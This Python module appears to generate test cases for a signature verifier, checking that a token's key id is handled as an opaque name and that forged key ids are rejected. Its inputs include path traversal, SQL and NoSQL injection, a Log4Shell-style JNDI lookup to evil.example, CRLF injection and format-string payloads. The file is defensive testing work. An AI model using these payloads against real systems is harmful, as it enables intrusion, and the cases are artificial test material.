"""Attacks 23 and 24: names of keys."""

from __future__ import annotations

from corpus import Corpus, issuer, pinned
from crafting import (
    CARD,
    ec_key,
    header_of,
    signed,
)


def build(corpus: Corpus) -> None:
    """Register them."""
    for make in (_kid_forms, _foreign_kids):
        make(corpus)


def _kid_forms(corpus: Corpus) -> None:
    attack = corpus.attack(
        23,
        "kid-injection",
        "Names of keys that are more than names",
        "A kid is opaque: it is compared with the names of enrolled keys and used for nothing "
        "else, neither as a path nor in a query. What a terminal or a log would obey is refused.",
    )
    key = ec_key("harbour-1")
    odd = {
        "path": "../../etc/passwd",
        "sql": "' OR 1=1 --",
        "jndi": "${jndi:ldap://evil.example/a}",
        "glob": "*",
        "url": "https://evil.example/key.json",
        "format": "%s%s%n",
        "pollution": "__proto__",
    }
    attack.policy(issuer(pinned(key)))
    for id_, kid in odd.items():
        card = signed(CARD, key.called(kid))
        attack.attack(id_, f"The header names {kid}", card, "untrusted", "key.unknown")
    for id_, title, kid in (
        ("nul", "A NUL", "harbour-1\0.pem"),
        ("crlf", "A line break", "harbour-1\r\nverdict: trusted"),
        ("escape", "An escape sequence of terminals", "harbour-1\x1b[2K"),
        ("rtl", "A right-to-left override", "harbour-1\u202e"),
        ("non-ascii", "A letter beyond ASCII", "h\u00e4fen-1"),
        ("empty", "Nothing", ""),
        ("long", "257 characters", "k" * 257),
        ("number", "A number", 1),
        ("list", "A list", ["harbour-1"]),
        ("object", "An object", {"$ne": None}),
        ("true", "True", True),
    ):
        card = signed(CARD, key, {**header_of(key), "kid": kid})
        attack.attack(id_, f"The header's kid: {title}", card, "untrusted", "sig.kid_form")
    ten = signed(CARD, key, header_of(key, kid="k" * 10_000))
    attack.attack("huge", "The header's kid has 10,000 characters", ten, "untrusted", "sig.header")
    enrolled = [key.called(kid) for kid in odd.values()] + [key.called("k" * 256)]
    all_of_them = attack.policy(issuer(pinned(*enrolled)), name="odd-names.toml")
    for id_, kid in odd.items():
        card = signed(CARD, key.called(kid))
        title = f"A key is enrolled as {kid}: a name like any other"
        attack.twin(f"{id_}-enrolled", title, card, policy=all_of_them)
    longest = signed(CARD, key.called("k" * 256))
    attack.twin("longest", "A name of 256 characters", longest, policy=all_of_them)
    attack.twin("plain", "A plain name", signed(CARD, key))


def _foreign_kids(corpus: Corpus) -> None:
    attack = corpus.attack(
        24,
        "foreign-kid",
        "Names that claim another key",
        "A kid is a hint and proves nothing, though it looks like a thumbprint. Whose a signature "
        "is, the enrolled key under that name says by verifying it.",
    )
    key, evil, other = ec_key("harbour-1"), ec_key("evil"), ec_key("other")
    attack.policy(issuer(pinned(key)))
    nameless = attack.policy(issuer(pinned(key.jwk(kid=None))), name="nameless.toml")
    foreign = attack.policy(issuer(pinned(key.called(other.thumbprint))), name="foreign.toml")
    attack.attack(
        "claimed",
        "A stranger signs under the honest key's name",
        signed(CARD, evil, header_of(evil, kid=key.kid)),
        "invalid",
        "sig.bad",
    )
    attack.attack(
        "thumbprint-claimed",
        "A stranger signs under the honest key's thumbprint, which is its name",
        signed(CARD, evil, header_of(evil, kid=key.thumbprint)),
        "invalid",
        "sig.bad",
        policy=nameless,
    )
    attack.attack(
        "thumbprint-of-named",
        "The honest key signs under its thumbprint, and is enrolled under another name",
        signed(CARD, key.called(key.thumbprint)),
        "untrusted",
        "key.unknown",
    )
    attack.attack(
        "owner-of-the-name",
        "The key whose thumbprint the name looks like signs; another is enrolled under it",
        signed(CARD, other.called(other.thumbprint)),
        "invalid",
        "sig.bad",
        policy=foreign,
    )
    attack.twin("named", "The enrolled name", signed(CARD, key))
    attack.twin(
        "thumbprint",
        "The thumbprint, of a key that is enrolled without a name",
        signed(CARD, key.called(key.thumbprint)),
        policy=nameless,
    )
    attack.twin(
        "opaque",
        "A name that looks like another key's thumbprint",
        signed(CARD, key.called(other.thumbprint)),
        policy=foreign,
    )
